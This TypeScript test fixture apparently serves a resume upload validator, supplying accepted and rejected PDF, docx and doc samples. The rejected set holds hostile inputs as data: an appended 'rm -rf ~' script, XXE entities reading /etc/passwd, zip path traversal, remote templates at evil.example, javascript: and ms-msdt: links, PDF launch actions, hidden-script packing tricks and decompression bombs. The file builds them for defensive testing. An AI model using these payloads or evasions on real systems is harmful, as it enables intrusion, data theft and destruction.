import { extname } from 'node:path';
import { deflateSync } from 'node:zlib';
import type { ResumeNote } from '../resume-rules.ts';
import { type ResumeProblem, resumeLimits } from '../resume-rules.ts';
import { toCompoundFile } from './compound.ts';
import {
  toContentTypes,
  toDoc,
  toDocx,
  toDocxWith,
  toObject,
  toPackedObjects,
  toPdf,
  toRelations,
  toStream,
  toTableStream,
  toWordStream,
} from './documents.ts';
import { harmlessPdfs, hostilePdfs } from './pdf-corpus.ts';
import { toZip } from './zip.ts';

type Sound = [what: string, name: string, bytes: Buffer, notes?: ResumeNote[]];
type Refused = [what: string, name: string, bytes: Buffer, problem: ResumeProblem];

const HTML = '<html><script>alert(1)</script></html>';
const SETTINGS = 'word/_rels/settings.xml.rels';
const templateAt = (target: string) =>
  toDocx([
    {
      name: SETTINGS,
      content: toRelations([{ type: 'attachedTemplate', target, external: true }]),
    },
  ]);
const linkTo = (target: string) => toDocxWith({ type: 'hyperlink', target, external: true });
const withRelations = (content: Buffer | string) =>
  toDocx([{ name: 'word/_rels/document.xml.rels', content }]);
const padTo = (bytes: Buffer, size: number) =>
  Buffer.concat([bytes, Buffer.alloc(size - bytes.length, ' ')]);
const withBehind = (more: Buffer | string) => Buffer.concat([toPdf(), Buffer.from(more)]);
/** An incremental update: changed objects after the end of the file, with another end. */
const CHANGE =
  '3 0 obj\n<< /Type /Page /Parent 2 0 R >>\nendobj\nxref\n3 1\n0000000000 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n0\n%%EOF\n';
// A comment makes a PDF of any size; the digits that its length adds are removed again.
const pdfOf = (size: number) => {
  const toPadded = (length: number) => toPdf({ extra: `%${' '.repeat(length)}\n` });
  return toPadded(2 * size - toPadded(size).length);
};

/** A tree of attachments, and one of them. */
const ATTACHED =
  toObject('<< /Names [(data.xml) << /Type /Filespec /F (data.xml) /EF << /F 7 0 R >> >>] >>') +
  toStream('<data/>', '/Type /EmbeddedFile ');

/** Files that applicants send. */
export const soundResumes: Sound[] = [
  ...harmlessPdfs.map(
    ([what, bytes, notes]): Sound => [`a PDF that ${what}`, 'a.pdf', bytes, notes],
  ),
  ['a PDF', 'omar-farid.pdf', toPdf()],
  ['a PDF named in capitals', 'OMAR.PDF', toPdf()],
  ['a PDF with an Arabic name', 'سيرة ذاتية.pdf', toPdf()],
  ['a PDF that a phone names without an ending', 'resume', toPdf()],
  ['a docx that a phone names without an ending', 'document:1234', toDocx()],
  ['a PDF with a version in its name', 'resume 2.0', toPdf()],
  ['a PDF with a dot at the end of its name', 'cv.pdf.', toPdf()],
  ['a PDF named as it was downloaded', 'cv.pdf?download=1', toPdf()],
  ['a PDF named after a program', 'setup.exe.pdf', toPdf()],
  ['a PDF after some white space', 'a.pdf', Buffer.concat([Buffer.from('\r\n\r\n'), toPdf()])],
  [
    'a PDF after a printer’s job header',
    'a.pdf',
    Buffer.concat([Buffer.from('\x1b%-12345X@PJL\r\n'), toPdf()]),
  ],
  ['a PDF with white space at the end', 'a.pdf', padTo(toPdf(), toPdf().length + 900)],
  ['a PDF with zeros at the end', 'a.pdf', withBehind(Buffer.alloc(900))],
  ['a PDF with a few stray bytes at the end', 'a.pdf', withBehind('\x1a\r\n-1\r\n')],
  [
    'a PDF before a printer’s end of job',
    'a.pdf',
    withBehind('\x1b%-12345X@PJL EOJ NAME="CV"\r\n\x1b%-12345X'),
  ],
  ['a PDF that was changed since', 'a.pdf', withBehind(CHANGE)],
  [
    'a PDF with a PDF attached as it is',
    'a.pdf',
    toPdf({
      extra: `6 0 obj\n<< /Type /EmbeddedFile >>\nstream\n${toPdf().toString('latin1')}endstream\nendobj\n`,
    }),
    ['attachments'],
  ],
  ['a PDF as large as allowed', 'a.pdf', pdfOf(resumeLimits.bytes)],
  ['a PDF whose text speaks of /JS', 'a.pdf', toPdf({ text: '/JS and /Launch, /Encrypt 5 0 R' })],
  ['a PDF with packed objects', 'a.pdf', toPdf({ extra: toPackedObjects('<< /Title (CV) >>') })],
  [
    'a PDF with packed objects under a list of one filter',
    'a.pdf',
    toPdf({ extra: toPackedObjects('<< /Title (CV) >>', { filter: '/Filter[/FlateDecode]' }) }),
  ],
  [
    'a PDF with objects together, but not packed',
    'a.pdf',
    toPdf({ extra: toPackedObjects('<< /Title (CV) >>', { filter: '', pack: (all) => all }) }),
  ],
  [
    'a PDF for the web, its tables in streams',
    'a.pdf',
    toPdf({
      extra: `7 0 obj\r<</Linearized 1/L 9000/O 9/E 7000/N 1/T 8000/H [ 456 150]>>\rendobj\r${toTableStream()}${toPackedObjects('<</Title(CV)>>')}`,
    }),
  ],
  [
    'a PDF with a link to a folder named JS',
    'a.pdf',
    toPdf({ extra: toObject('<</S/URI/URI(https://code.example/omar/JS)>>') }),
  ],
  [
    'a PDF that says what its author knows',
    'a.pdf',
    toPdf({
      extra: '6 0 obj\n<</Length 40>>\nstream\nBT (HTML/JavaScript/CSS) Tj ET\nendstream\nendobj\n',
    }),
  ],
  ['a PDF that opens at a page', 'a.pdf', toPdf({ catalog: '/OpenAction [3 0 R /Fit] ' })],
  [
    'a PDF with its data attached',
    'a.pdf',
    toPdf({ catalog: '/Names << /EmbeddedFiles 6 0 R >> ', extra: ATTACHED }),
    ['attachments'],
  ],
  [
    'a PDF form',
    'a.pdf',
    toPdf({ catalog: '/AcroForm << /XFA 7 0 R >> ', extra: toStream('<xdp:xdp/>') }),
    ['form'],
  ],
  ['a docx', 'omar-farid.docx', toDocx()],
  ['a docx whose name has dots', 'omar.v2.final.docx', toDocx()],
  [
    'a docx with stored parts and a folder',
    'a.docx',
    toDocx([
      { name: 'word/media/', content: '', stored: true },
      { name: 'word/media/photo.jpeg', content: Buffer.from('ffd8ffe0', 'hex'), stored: true },
    ]),
  ],
  ['a docx with a link', 'a.docx', linkTo('https://nabra.example/?a=1&amp;b=2')],
  ['a docx with a mail link', 'a.docx', linkTo('mailto:omar@example.com')],
  ['a docx with a telephone link', 'a.docx', linkTo('tel:+201001234567')],
  ...[
    'file:///C:\\Users\\omar\\portfolio.html',
    'file://localhost/Users/omar/cv.html',
    'skype:omar?call',
    'callto:+201001234567',
    'sms:+201001234567',
    'whatsapp://send?phone=201001234567',
    'ftp://ftp.example.com/cv',
    '/in/omar',
  ].map((target): Sound => [`a docx with a link to ${target}`, 'a.docx', linkTo(target)]),
  ...[
    '/private/var/mobile/Resume.dotx',
    '/Volumes/USB/Resume.dotx',
    '/home/omar/Resume.dotx',
    'file:///storage/emulated/0/Resume.dotx',
    'Normal.dotm',
  ].map((target): Sound => [`a docx made from ${target}`, 'a.docx', templateAt(target)]),
  [
    'a docx whose main part has another name',
    'a.docx',
    toDocx([
      {
        name: '[Content_Types].xml',
        content: toContentTypes().replace('/word/document.xml', '/word/document2.xml'),
      },
      {
        name: '_rels/.rels',
        content: toRelations([{ type: 'officeDocument', target: '/word/document2.xml' }]),
      },
      { name: 'word/document2.xml', content: '<w/>' },
    ]),
  ],
  [
    'a docx with a comment among its relations',
    'a.docx',
    withRelations('<Relationships><!-- " --></Relationships>'),
  ],
  [
    'a docx with stray bytes behind it',
    'a.docx',
    Buffer.concat([toDocx(), Buffer.from('\r\n'), Buffer.alloc(512)]),
  ],
  ['a docx with a link without a scheme', 'a.docx', linkTo('www.linkedin.com/in/omar')],
  [
    'a docx made from a template of its author',
    'a.docx',
    templateAt('file:///C:\\Users\\omar\\Templates\\Resume.dotx'),
  ],
  [
    'a docx made from a template on a Mac',
    'a.docx',
    templateAt('file://localhost/Users/omar/Resume.dotx'),
  ],
  ['a doc', 'omar-farid.doc', toDoc()],
  ['a doc with an empty pool of objects', 'omar-farid.doc', toDoc('ObjectPool')],
];

const SCRIPT = '<< /S /JavaScript /JS (x) >>';
const PASSWORD = `<< /Filter /Standard /V 1 /R 2 /P -4 /O <${'ab'.repeat(32)}> /U <${'cd'.repeat(32)}> >>`;
const deflateUnchecked = (objects: Buffer) => {
  const packed = deflateSync(objects);
  return packed.fill(packed.at(-1) === 1 ? 2 : 1, packed.length - 1);
};
const toHexadecimal = (objects: Buffer) => Buffer.from(`${deflateSync(objects).toString('hex')}>`);
// Each row of a predicted table begins with its predictor, here the byte to the left.
const toDifferences = (objects: Buffer) =>
  deflateSync(Buffer.from([1, ...objects.map((byte, at) => byte - (objects[at - 1] ?? 0))]));

/** Ways to pack a script so that readers find it and a careless check does not. */
const hiddenScripts: [
  what: string,
  how: string | Parameters<typeof toPackedObjects>[1],
  problem: ResumeProblem,
][] = [
  ['whose checksum is wrong', { pack: deflateUnchecked }, 'damaged'],
  [
    'under two filters',
    { filter: '/Filter [/ASCIIHexDecode /FlateDecode]', pack: toHexadecimal },
    'damaged',
  ],
  ['under a filter named elsewhere', { filter: '/Filter 11 0 R' }, 'damaged'],
  ['under two names of filters', { filter: '/Filter /FlateDecode /Filter 11 0 R' }, 'damaged'],
  ['behind a single CR', { begin: 'stream\r' }, 'active'],
  ['behind a blank', { begin: 'stream \n' }, 'active'],
  ['behind other signs', { begin: 'stream x\n' }, 'damaged'],
  [
    'as differences',
    { filter: '/Filter /FlateDecode /DecodeParms << /Predictor 11 >>', pack: toDifferences },
    'damaged',
  ],
  ['whose type is spelled otherwise', { type: '/Type /Obj#53tm' }, 'active'],
  ['whose type is not named', { type: '' }, 'active'],
  ['together, but not packed', { filter: '', pack: (all) => all }, 'active'],
  ['in what looks like a stream', `% stream\n12 0 obj\n${SCRIPT}\nendobj\n% endstream\n`, 'active'],
  ['packed in what looks like a stream', `% stream\n${toPackedObjects(SCRIPT)}`, 'active'],
];

/** Files that are rejected, with the reason. */
export const refusedResumes: Refused[] = [
  ...hostilePdfs.map(
    ([what, bytes, problem]): Refused => [`a PDF that ${what}`, 'a.pdf', bytes, problem],
  ),
  ['nothing', 'a.pdf', Buffer.alloc(0), 'empty'],
  ['one byte too many', 'a.pdf', pdfOf(resumeLimits.bytes + 1), 'tooLarge'],
  ['a text file', 'a.txt', Buffer.from('CV'), 'type'],
  ['a text file without an ending', 'resume', Buffer.from('CV'), 'type'],
  ['a web page', 'a.html', toPdf(), 'type'],
  ['a program named like a PDF', 'a.pdf.exe', toPdf(), 'type'],
  ['a program named backwards', 'resume\u202Efdp.exe', toPdf(), 'type'],
  ['a name cut by a NUL', 'a.exe\0.pdf\0.exe', toPdf(), 'type'],
  ['a document with macros by name', 'a.docm', toDocx(), 'type'],
  ['a rich text file', 'a.rtf', Buffer.from('{\\rtf1}'), 'type'],

  ['a docx named pdf', 'a.pdf', toDocx(), 'mismatch'],
  ['a pdf named docx', 'a.docx', toPdf(), 'mismatch'],
  ['a pdf named doc', 'a.doc', toPdf(), 'mismatch'],
  ['a docx named doc', 'a.doc', toDocx(), 'mismatch'],
  ['a doc named docx', 'a.docx', toDoc(), 'mismatch'],
  ['rich text named doc', 'a.doc', Buffer.from('{\\rtf1 CV}'), 'mismatch'],
  ['a web page named doc', 'a.doc', Buffer.from(HTML), 'mismatch'],
  ['a web page named pdf', 'a.pdf', Buffer.from(HTML), 'mismatch'],
  ['a picture named pdf', 'a.pdf', Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), 'mismatch'],
  [
    'the virus test file',
    'a.pdf',
    Buffer.from('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS'),
    'mismatch',
  ],
  [
    'a web page that is also a PDF',
    'a.pdf',
    Buffer.concat([Buffer.from(HTML), toPdf()]),
    'mismatch',
  ],
  [
    'a program that is also a PDF',
    'a.pdf',
    Buffer.concat([Buffer.from('MZ\x90\0'), toPdf()]),
    'mismatch',
  ],
  [
    'a picture that is also a PDF',
    'a.pdf',
    Buffer.concat([Buffer.from('GIF89a'), toPdf()]),
    'mismatch',
  ],
  ['a ZIP behind a PDF', 'a.pdf', withBehind(toDocx()), 'mismatch'],
  [
    'a ZIP behind a PDF, and an end behind both',
    'a.pdf',
    Buffer.concat([withBehind(toDocx()), Buffer.from('\n%%EOF\n')]),
    'mismatch',
  ],
  ['a web page behind a PDF', 'a.pdf', withBehind(HTML), 'mismatch'],
  [
    'a web page behind a PDF, too long for readers to find the end',
    'a.pdf',
    withBehind(`\0\n${HTML}${' '.repeat(2000)}</html>`),
    'mismatch',
  ],
  [
    'a web page behind a PDF, and an end behind both',
    'a.pdf',
    withBehind(`${HTML}\n%%EOF\n`),
    'mismatch',
  ],
  ['a web page behind a changed PDF', 'a.pdf', withBehind(CHANGE + HTML), 'mismatch'],
  ['a script behind a PDF', 'a.pdf', withBehind('#!/bin/sh\nrm -rf ~\n'), 'mismatch'],
  ['a program behind a PDF', 'a.pdf', withBehind('MZ\x90\0'), 'mismatch'],
  ['a letter behind a PDF', 'a.pdf', withBehind('Dear Sir or Madam, '.repeat(30)), 'mismatch'],
  [
    'a PDF that begins too late',
    'a.pdf',
    Buffer.concat([Buffer.alloc(1030, ' '), toPdf()]),
    'mismatch',
  ],
  [
    'a PDF inside a docx',
    'a.docx',
    toZip([
      { name: 'cv.pdf', content: toPdf(), stored: true },
      { name: '[Content_Types].xml', content: toContentTypes() },
      { name: 'word/document.xml', content: '<w/>' },
    ]),
    'mismatch',
  ],
  [
    'a docx that declares a document type, and with it entities',
    'a.docx',
    toDocx([
      {
        name: 'word/document.xml',
        content:
          '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>',
      },
    ]),
    'active',
  ],
  [
    'a docx that declares one in UTF-16',
    'a.docx',
    toDocx([
      {
        name: 'word/document.xml',
        content: Buffer.from('\ufeff<!DOCTYPE a SYSTEM "file:///etc/passwd"><w/>', 'utf16le'),
      },
    ]),
    'active',
  ],
  [
    'a docx that hides one behind a long comment',
    'a.docx',
    toDocx([
      {
        name: 'word/document.xml',
        content: `<!--${' '.repeat(100_000)}--><!DOCTYPE a SYSTEM "file:///etc/passwd"><w/>`,
        stored: true,
      },
    ]),
    'damaged',
  ],
  [
    'a docx behind something else',
    'a.docx',
    Buffer.concat([Buffer.from('#!/bin/sh\n'), toDocx()]),
    'mismatch',
  ],
  [
    'a docx with a web page behind it',
    'a.docx',
    Buffer.concat([toDocx(), Buffer.alloc(9), Buffer.from(HTML)]),
    'mismatch',
  ],
  [
    'a docx with a letter behind it',
    'a.docx',
    Buffer.concat([toDocx(), Buffer.from('Dear Sir or Madam, '.repeat(30))]),
    'mismatch',
  ],
  [
    'a docx whose main part is not what it says',
    'a.docx',
    toDocx([
      {
        name: '_rels/.rels',
        content: toRelations([{ type: 'officeDocument', target: '[Content_Types].xml' }]),
      },
    ]),
    'mismatch',
  ],
  [
    'a docx whose main part hides that it is XML',
    'a.docx',
    toDocx([
      {
        name: '[Content_Types].xml',
        content: toContentTypes().replace('/word/document.xml', '/word/document.png'),
      },
      {
        name: '_rels/.rels',
        content: toRelations([{ type: 'officeDocument', target: 'word/document.png' }]),
      },
      { name: 'word/document.png', content: '<!DOCTYPE a SYSTEM "file:///etc/passwd"><w/>' },
    ]),
    'mismatch',
  ],
  [
    'a docx with two main parts',
    'a.docx',
    toDocx([
      {
        name: '_rels/.rels',
        content: toRelations([
          { type: 'officeDocument', target: 'word/document.xml' },
          { type: 'officeDocument', target: 'word/other.xml' },
        ]),
      },
    ]),
    'mismatch',
  ],
  ['a ZIP of something else', 'a.docx', toZip([{ name: 'a.txt', content: 'a' }]), 'mismatch'],
  [
    'a workbook named docx',
    'a.docx',
    toDocx([
      { name: '[Content_Types].xml', content: toContentTypes('spreadsheetml.sheet.main+xml') },
    ]),
    'mismatch',
  ],
  [
    'a compound file without Word',
    'a.doc',
    toCompoundFile([{ name: 'Workbook', content: toWordStream() }]),
    'mismatch',
  ],

  ['a PDF without an end', 'a.pdf', toPdf().subarray(0, -10), 'damaged'],
  ['a PDF cut in half', 'a.pdf', toPdf().subarray(0, 300), 'damaged'],
  ['a docx cut in half', 'a.docx', toDocx().subarray(0, 400), 'damaged'],
  ['a docx without its last byte', 'a.docx', toDocx().subarray(0, -1), 'damaged'],
  ['a doc cut in half', 'a.doc', toDoc().subarray(0, 5000), 'damaged'],
  ['the head of a doc', 'a.doc', toDoc().subarray(0, 100), 'damaged'],
  [
    'a docx with a wrong checksum',
    'a.docx',
    toDocx([{ name: 'word/styles.xml', content: '<w/>', claimedCrc: 1 }]),
    'damaged',
  ],
  [
    'a docx with two parts of one name',
    'a.docx',
    toZip([
      { name: '[Content_Types].xml', content: toContentTypes() },
      { name: 'word/document.xml', content: '<w/>' },
      { name: 'Word/Document.xml', content: '<x/>' },
    ]),
    'damaged',
  ],
  [
    'a docx whose part has two names',
    'a.docx',
    toDocx([{ name: 'word/a.xml', localName: 'word/b.xml', content: '<w/>' }]),
    'damaged',
  ],
  ['a docx that climbs', 'a.docx', toDocx([{ name: '../../etc/x', content: 'x' }]), 'damaged'],
  ['a docx with a root', 'a.docx', toDocx([{ name: '/etc/passwd', content: 'x' }]), 'damaged'],
  [
    'a docx with a symbolic link',
    'a.docx',
    toDocx([{ name: 'word/link', content: '/etc/passwd', mode: 0o120777 }]),
    'damaged',
  ],
  [
    'relations with a document type',
    'a.docx',
    withRelations('<!DOCTYPE r [<!ENTITY x "file:///etc/passwd">]><Relationships/>'),
    'damaged',
  ],
  [
    'relations in another encoding',
    'a.docx',
    withRelations(Buffer.from(`\uFEFF${toRelations([])}`, 'utf16le')),
    'damaged',
  ],

  [
    'relations longer than any document has',
    'a.docx',
    toDocx([
      {
        name: 'word/_rels/document.xml.rels',
        content: `<Relationships>${' '.repeat(256 * 1024)}</Relationships>`,
        stored: true,
      },
    ]),
    'oversize',
  ],

  [
    'a PDF with a password',
    'a.pdf',
    toPdf({ trailer: '/Encrypt 6 0 R ', extra: toObject(PASSWORD) }),
    'encrypted',
  ],
  [
    'the same, spelled otherwise',
    'a.pdf',
    toPdf({ trailer: `/#45ncrypt ${PASSWORD} ` }),
    'encrypted',
  ],
  [
    'a docx with a password',
    'a.docx',
    toCompoundFile([
      { name: 'EncryptionInfo', content: Buffer.alloc(4096) },
      { name: 'EncryptedPackage', content: Buffer.alloc(4096) },
    ]),
    'encrypted',
  ],
  [
    'the same, named doc',
    'a.doc',
    toCompoundFile([{ name: 'EncryptedPackage', content: Buffer.alloc(4096) }]),
    'encrypted',
  ],
  [
    'a docx with an encrypted part',
    'a.docx',
    toDocx([{ name: 'word/styles.xml', content: 'x', flags: 1 }]),
    'encrypted',
  ],
  [
    'a doc with a password',
    'a.doc',
    toCompoundFile([{ name: 'WordDocument', content: toWordStream({ encrypted: true }) }]),
    'encrypted',
  ],

  [
    'a docx with a macro project',
    'a.docx',
    toDocx([{ name: 'word/vbaProject.bin', content: 'x' }]),
    'macros',
  ],
  [
    'a docm renamed',
    'a.docx',
    toDocx([
      {
        name: '[Content_Types].xml',
        content: toContentTypes('ms-word.document.macroEnabled.main+xml'),
      },
    ]),
    'macros',
  ],
  [
    'a macro project under another name',
    'a.docx',
    toDocxWith({ type: 'vbaProject', target: 'thumbnail.jpeg' }),
    'macros',
  ],
  ['a doc with macros', 'a.doc', toDoc('Macros', 'VBA', '_VBA_PROJECT'), 'macros'],
  ['a doc with a hidden macro project', 'a.doc', toDoc('_VBA_PROJECT_CUR'), 'macros'],

  ['a PDF with a script', 'a.pdf', toPdf({ extra: toObject(SCRIPT) }), 'active'],
  [
    'a PDF with a script, spelled otherwise',
    'a.pdf',
    toPdf({ extra: toObject('<< /S /J#61vaScript /#4A#53 (x) >>') }),
    'active',
  ],
  ['a PDF with a packed script', 'a.pdf', toPdf({ extra: toPackedObjects(SCRIPT) }), 'active'],
  ...hiddenScripts.map(
    ([what, how, problem]): Refused => [
      `a PDF with a script ${what}`,
      'a.pdf',
      toPdf({ extra: typeof how === 'string' ? how : toPackedObjects(SCRIPT, how) }),
      problem,
    ],
  ),
  [
    'a PDF that starts a program',
    'a.pdf',
    toPdf({ extra: toObject('<< /S /Launch /F (cmd) >>') }),
    'active',
  ],
  [
    'a PDF that calls home when opened',
    'a.pdf',
    toPdf({ catalog: '/OpenAction << /S /URI /URI (http://x.example) >> ' }),
    'active',
  ],
  ['a template on the web', 'a.docx', templateAt('https://evil.example/t.dotm'), 'active'],
  ['a template on a share', 'a.docx', templateAt('\\\\evil.example\\share\\t.dotx'), 'active'],
  [
    'a template on a share as a file',
    'a.docx',
    templateAt('file://evil.example/s/t.dotx'),
    'active',
  ],
  [
    'a template on a share, four slashes',
    'a.docx',
    templateAt('file:////evil.example/t.dotx'),
    'active',
  ],
  [
    'a template spelled with references',
    'a.docx',
    templateAt('&#104;ttp://evil.example/t'),
    'active',
  ],
  [
    'a picture on the web',
    'a.docx',
    toDocxWith({ type: 'image', target: 'http://x.example/p.png', external: true }),
    'active',
  ],
  ['a link to a share', 'a.docx', linkTo('\\\\evil.example\\share'), 'active'],
  ['a link to a share as a file', 'a.docx', linkTo('file://evil.example/s'), 'active'],
  ['a link to a share, four slashes', 'a.docx', linkTo('file:////evil.example/s'), 'active'],
  ['a link to a script', 'a.docx', linkTo('javascript:alert(1)'), 'active'],
  ['a link to a program', 'a.docx', linkTo('ms-msdt:/id'), 'active'],
  ['a link with a hidden scheme', 'a.docx', linkTo('java&#9;script:alert(1)'), 'active'],
  [
    'an external target under single quotes',
    'a.docx',
    withRelations(
      "<r:Relationships><r:Relationship Type='x/oleObject' Target = 'a>b' TargetMode='External'></r:Relationship></r:Relationships>",
    ),
    'active',
  ],
  ['a foreign text', 'a.docx', toDocxWith({ type: 'aFChunk', target: 'a.html' }), 'active'],
  ['an object', 'a.docx', toDocxWith({ type: 'oleObject', target: 'embeddings/o.bin' }), 'active'],
  [
    'an object without a relation',
    'a.docx',
    toDocx([{ name: 'word/embeddings/o.bin', content: 'x' }]),
    'active',
  ],
  [
    'a document in a document',
    'a.docx',
    toDocx([{ name: 'word/media/x.docx', content: 'x' }]),
    'active',
  ],
  [
    'an archive named picture',
    'a.docx',
    toDocx([{ name: 'word/media/x.png', content: toDocx() }]),
    'active',
  ],
  ['a wrapped file in a doc', 'a.doc', toDoc('\x01Ole10Native'), 'active'],

  [
    'a bomb',
    'a.docx',
    toDocx([{ name: 'word/a.xml', content: Buffer.alloc(19_000_000) }]),
    'oversize',
  ],
  [
    'a huge part',
    'a.docx',
    toDocx([{ name: 'word/a.xml', content: 'x', claimedSize: 0x7fffffff }]),
    'oversize',
  ],
  [
    'a bomb in the tables',
    'a.docx',
    toDocx([{ name: 'word/document.xml', content: Buffer.alloc(300_000) }]),
    'oversize',
  ],
  [
    'thousands of parts',
    'a.docx',
    toDocx(Array.from({ length: 2000 }, (_, index) => ({ name: `word/${index}`, content: '' }))),
    'oversize',
  ],
  [
    'a part larger than it says',
    'a.docx',
    toDocx([{ name: 'word/a.xml', content: 'x'.repeat(5000), claimedSize: 10 }]),
    'damaged',
  ],
  [
    'a bomb of objects',
    'a.pdf',
    toPdf({ extra: toPackedObjects(' '.repeat(17 * 1024 * 1024)) }),
    'oversize',
  ],
];

/** One valid file of each kind, and one without an extension, for tests that use the result of a check. */
export const soundSamples = soundResumes.filter(
  ([, name], at) => soundResumes.findIndex(([, other]) => extname(other) === extname(name)) === at,
);

/** One rejected file of each problem. */
export const refusedSamples = refusedResumes.filter(
  ([, , , problem], at) => refusedResumes.findIndex(([, , , other]) => other === problem) === at,
);
